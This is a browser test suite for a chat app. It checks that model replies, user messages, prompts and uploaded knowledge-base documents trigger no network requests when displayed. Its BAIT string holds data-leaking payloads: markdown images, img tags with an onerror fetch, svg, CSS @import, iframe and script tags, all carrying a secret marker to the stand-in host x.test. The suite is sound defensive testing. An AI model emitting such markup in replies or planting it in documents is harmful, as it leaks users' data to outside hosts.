"""What a model says, a person types or a document holds loads nothing: not from elsewhere, not from here."""

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, Request, expect

from tests.browser.conftest import Connected
from tests.browser.pages import ask, sign_in, stage, wait_for_reply

MARK = "gullsecret"
BAIT = f"""The gull says: ![seen](http://x.test/?q={MARK}) and ![](//x.test/{MARK}.png) and ![local](/health/?q={MARK}).

<img src="http://x.test/?q={MARK}"> <img src=/health/?q={MARK} onerror="fetch('/health/?q={MARK}')">

<svg><image href="http://x.test/{MARK}"/></svg> <link rel=stylesheet href="/health/?q={MARK}">
<style>@import "http://x.test/{MARK}"; body {{ background: url(/health/?q={MARK}) }}</style>
<iframe src="/health/?q={MARK}"></iframe> <video poster="/health/?q={MARK}"></video> <script src="/{MARK}.js"></script>

[![a picture in a link](http://x.test/{MARK}.png)](http://x.test/) ![by name][1]

[1]: http://x.test/{MARK}.png

That was the whole tale of the gull.
"""
"""Everything that would make a browser ask for something, were it taken as HTML or shown with its images."""


@pytest.fixture
def asked_for(context: BrowserContext) -> Iterator[list[str]]:
    """The addresses with the mark in them that the browser has asked for; its own pages' are without it."""
    addresses: list[str] = []

    def note(request: Request) -> None:
        if MARK in request.url or "x.test" in request.url:
            addresses.append(request.url)

    context.on("request", note)
    yield addresses
    context.remove_listener("request", note)


def assert_loads_nothing(page: Page, asked_for: list[str]) -> None:
    """Neither now nor until the page rests; and the ear does hear what a page asks for."""
    page.wait_for_load_state("networkidle")
    assert asked_for == []
    loading = "img, image, iframe, video, object, embed, style, link[href*=gullsecret], script[src*=gullsecret]"
    assert page.locator("main").locator(loading).count() == 0
    page.evaluate(f"fetch('/login/?q={MARK}')")
    page.wait_for_load_state("networkidle")
    assert len(asked_for) == 1
    asked_for.clear()


def test_a_reply_loads_nothing(page: Page, connected: Connected, asked_for: list[str]) -> None:
    connected.model.forget()
    connected.model.says(*re.split(r"(?<= )", BAIT))
    page.goto(connected.address)
    page.locator("button[value=demo]").click()
    page.goto(f"{connected.address}playground/with/elena/")
    page.wait_for_load_state()
    page.get_by_label(re.compile("^Message to")).fill("What does the gull say?")
    page.get_by_role("button", name="Send").click()
    page.wait_for_url(re.compile(r"/turns/\d+/"))
    wait_for_reply(page)
    expect(page.locator(".turn .reply").last).to_contain_text("the whole tale of the gull")
    assert_loads_nothing(page, asked_for)
    page.reload()
    expect(page.locator("#stage-reply .prose")).to_contain_text("the whole tale of the gull")
    assert_loads_nothing(page, asked_for)


def test_a_message_and_the_prompt_that_holds_it_load_nothing(page: Page, asked_for: list[str]) -> None:
    sign_in(page, "tester")
    turn = ask(page, BAIT)
    expect(turn.locator(".said").first).to_contain_text("the whole tale of the gull")
    prompt = stage(page, "prompt")
    prompt.locator("details.section").last.locator("summary").click()
    expect(prompt).to_contain_text("the whole tale of the gull")
    assert_loads_nothing(page, asked_for)


def test_a_document_its_search_and_the_turn_that_quotes_it_load_nothing(
    page: Page, asked_for: list[str], tmp_path: Path
) -> None:
    (tmp_path / "gull.md").write_text(f"# The tale of the gull of Sverdrup Hall\n\n{BAIT}")
    sign_in(page, "demo")
    page.goto("/knowledge/register-a-base/")
    page.get_by_label("Name").fill("Gull tales")
    page.get_by_role("button", name="Register").click()
    page.get_by_label(re.compile("Files to upload")).set_input_files(tmp_path / "gull.md")
    page.get_by_role("button", name="Upload", exact=True).click()
    expect(page.get_by_role("row", name="gull.md")).to_contain_text("Done")
    page.goto(f"{page.url.partition('?')[0]}?q=the+tale+of+the+gull")
    assert_loads_nothing(page, asked_for)
    page.get_by_role("link", name="gull.md").first.click()
    expect(page.locator("#chunks")).to_contain_text("the whole tale of the gull")
    assert_loads_nothing(page, asked_for)
    ask(page, "What is the tale of the gull of Sverdrup Hall?")
    expect(stage(page, "documents")).to_contain_text("gull.md")
    expect(stage(page, "prompt")).to_contain_text(MARK)
    assert_loads_nothing(page, asked_for)
